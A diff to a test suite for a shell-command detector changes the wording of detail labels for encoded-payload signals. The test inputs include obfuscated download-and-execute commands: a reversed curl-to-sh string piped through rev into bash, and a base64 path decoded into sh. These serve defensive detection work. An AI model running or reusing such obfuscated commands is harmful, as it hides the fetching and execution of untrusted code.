@@ -68,8 +68,8 @@ describe('commandSignals: encoded payloads', () => {
     expect(kinds("echo 'hs | i/x//:ptth s- lruc' | rev | bash")).toEqual(['downloadExec', 'encodedPayload']);
     expect(commandSignals('echo L3RtcC8ueC9ydW4= | base64 -d | sh')).toEqual([
       { kind: 'encodedPayload', detail: 'base64 | sh' },
-      { kind: 'tempPath', detail: 'decoded payload: /tmp/.x/run' },
-      { kind: 'hiddenPath', detail: 'decoded payload: /tmp/.x/run' },
+      { kind: 'tempPath', detail: 'base64 → /tmp/.x/run' },
+      { kind: 'hiddenPath', detail: 'base64 → /tmp/.x/run' },
     ]);
   });
 });
